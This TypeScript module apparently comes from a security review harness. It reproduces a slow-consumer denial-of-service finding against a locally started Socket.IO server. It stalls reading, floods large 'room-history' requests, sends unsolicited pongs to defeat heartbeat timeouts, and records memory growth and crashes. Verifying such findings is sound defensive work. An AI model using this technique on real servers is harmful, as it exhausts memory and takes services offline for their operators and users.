/**
 * Finding 1: a signed-in Socket.IO client that stops reading while asking for large replies makes
 * the server buffer them without bound; and unsolicited pongs keep such a client alive for ever.
 */
import { connectionCounts } from './http.js';
import { type Attack, mib, type Outcome, probe, type Row, secs, sleep } from './lib.js';
import { type ServerHandle, startServer } from './server.js';
import { registerUser } from './users.js';
import { SioClient } from './wire.js';

const FINDING = '1 slow consumer';
const ROOM = 'big';
const ATTACK_MS = 20_000;

/** Records when (Date.now()) the observer hears each user go offline: how a server-side close shows. */
function watchOffline(observer: SioClient): Map<string, number> {
  const offlineAt = new Map<string, number>();
  observer.on('activity', (payload) => {
    const { userId, state } = payload as { userId: string; state: string };
    if (state === 'offline' && !offlineAt.has(userId)) offlineAt.set(userId, Date.now());
  });
  return offlineAt;
}

/** Fills ROOM with 100 messages of ~4 KB, so each room-history of 100 is ~420 KB. */
async function seedRoom(seeder: SioClient): Promise<void> {
  await seeder.request('join-room', { room: ROOM });
  const body = { text: 'x'.repeat(4000) };
  for (let batch = 0; batch < 10; batch++)
    await Promise.all(
      Array.from({ length: 10 }, () => seeder.request('send-message', { room: ROOM, body }, 10_000)),
    );
}

async function stalledHistoryLoop(server: ServerHandle): Promise<Outcome> {
  const seederUser = await registerUser(server, 'seed');
  const attackerUser = await registerUser(server, 'slow');
  const seeder = await SioClient.connect(server.url, { auth: { socketSecret: seederUser.socketSecret } });
  const offlineAt = watchOffline(seeder);
  await seedRoom(seeder);
  const attacker = await SioClient.connect(server.url, { auth: { socketSecret: attackerUser.socketSecret } });
  const sample = await attacker.request('room-history', { room: ROOM, limit: 100 });
  const replyBytes = JSON.stringify(sample).length;

  // From here on the attacker reads nothing: TCP fills up and every reply waits in the server.
  attacker.autoPong = false;
  attacker.ws.pause();
  await sleep(500);
  const baseline = server.rssBytes() ?? 0;
  const started = Date.now();
  let peak = baseline;
  let sent = 0;
  let sendErrors = 0;
  const series: { t: number; rssMiB: number }[] = [];
  const counts: { t: number; socketio: number | null }[] = [];
  const sampler = setInterval(() => {
    const rss = server.rssBytes();
    if (rss === undefined) return;
    peak = Math.max(peak, rss);
    series.push({ t: Date.now() - started, rssMiB: Math.round(rss / 1024 / 1024) });
  }, 250);
  const counter = setInterval(() => {
    const t = Date.now() - started;
    void connectionCounts(server, 2000).then((c) => counts.push({ t, socketio: c?.socketio ?? null }));
  }, 1000);
  // Engine.IO pongs every 10 s, as the review did: they keep the heartbeat from closing the connection.
  const ponger = setInterval(() => attacker.ws.send('3', (err) => err && sendErrors++), 10_000);
  let id = 1_000;
  while (Date.now() - started < ATTACK_MS && server.alive() && attacker.ws.readyState === attacker.ws.OPEN) {
    for (let i = 0; i < 2; i++) {
      attacker.ws.send(
        `42${id++}["room-history",{"room":"${ROOM}","limit":100}]`,
        (err) => err && sendErrors++,
      );
      sent++;
    }
    await sleep(20);
  }
  const elapsed = Date.now() - started;
  clearInterval(ponger);
  await sleep(1000);
  clearInterval(sampler);
  clearInterval(counter);
  const died = !server.alive();
  const exit = died ? await server.exited : undefined;
  const heapLimit = /heap limit|heap out of memory/i.test(server.stderr());
  const cutAt = offlineAt.get(attackerUser.id);
  attacker.close();
  seeder.close();
  return {
    outcome:
      `${Math.round(replyBytes / 1024)} KB per reply; RSS ${mib(baseline)} → peak ${mib(peak)} (+${mib(peak - baseline)}) over ${secs(elapsed)}, ${sent} requests sent; ` +
      (died
        ? `server DIED after ${secs((exit?.at ?? 0) - started)} (code ${exit?.code}, signal ${exit?.signal}${heapLimit ? ', heap limit' : ''}); `
        : 'server alive; ') +
      (cutAt !== undefined
        ? `attacking connection closed by the server after ${secs(cutAt - started)}`
        : `attacking connection never closed by the server${died ? ' before it died' : ''}`),
    figures: {
      replyBytes,
      baselineRssBytes: baseline,
      peakRssBytes: peak,
      growthBytes: peak - baseline,
      elapsedMs: elapsed,
      requestsSent: sent,
      sendErrors,
      died,
      exit,
      heapLimitInStderr: heapLimit,
      attackerClosedAfterMs: cutAt === undefined ? null : cutAt - started,
      socketioCounts: counts,
      rssSeries: series.filter((_, i) => i % 4 === 0),
    },
  };
}

async function unsolicitedPongs(server: ServerHandle): Promise<Outcome> {
  const [observerUser, silentUser, pongUser] = [
    await registerUser(server, 'obs'),
    await registerUser(server, 'silent'),
    await registerUser(server, 'pong'),
  ];
  const observer = await SioClient.connect(server.url, { auth: { socketSecret: observerUser.socketSecret } });
  const offlineAt = watchOffline(observer);
  const silent = await SioClient.connect(server.url, { auth: { socketSecret: silentUser.socketSecret } });
  const ponging = await SioClient.connect(server.url, { auth: { socketSecret: pongUser.socketSecret } });
  const started = Date.now();
  for (const client of [silent, ponging]) {
    client.autoPong = false;
    client.ws.pause();
  }
  const ponger = setInterval(() => ponging.ws.send('3', () => {}), 500);
  await sleep(8000);
  clearInterval(ponger);
  const counts = await connectionCounts(server);
  const silentCut = offlineAt.get(silentUser.id);
  const pongCut = offlineAt.get(pongUser.id);
  for (const c of [observer, silent, ponging]) c.close();
  const fate = (cut: number | undefined) =>
    cut === undefined ? 'still open at 8 s' : `closed after ${secs(cut - started)}`;
  return {
    outcome: `silent: ${fate(silentCut)}; unsolicited pongs: ${fate(pongCut)} (health socketio count at 8 s: ${counts?.socketio ?? 'no answer'} of 3)`,
    figures: {
      silentClosedAfterMs: silentCut === undefined ? null : silentCut - started,
      pongingClosedAfterMs: pongCut === undefined ? null : pongCut - started,
      socketioCountAt8s: counts?.socketio ?? null,
    },
  };
}

export const attack: Attack = {
  name: 'slow-consumer',
  async run(repo) {
    const rows: Row[] = [];
    const big = await startServer(repo, { nodeArgs: ['--max-old-space-size=512'] });
    await probe(
      rows,
      FINDING,
      `client stops reading, loops room-history {limit: 100} on 100 messages of ~4 KB for ${ATTACK_MS / 1000} s, pong "3" every 10 s; --max-old-space-size=512`,
      () => stalledHistoryLoop(big),
    );
    await big.stop();
    const quick = await startServer(repo, {
      env: { HEARTBEAT_INTERVAL_MS: '1000', HEARTBEAT_TIMEOUT_MS: '1000' },
    });
    await probe(
      rows,
      FINDING,
      'HEARTBEAT_INTERVAL_MS=1000 HEARTBEAT_TIMEOUT_MS=1000: two non-reading connections, one silent, one sending unsolicited pongs every 0.5 s; watched 8 s',
      () => unsolicitedPongs(quick),
    );
    await quick.stop();
    return rows;
  },
};
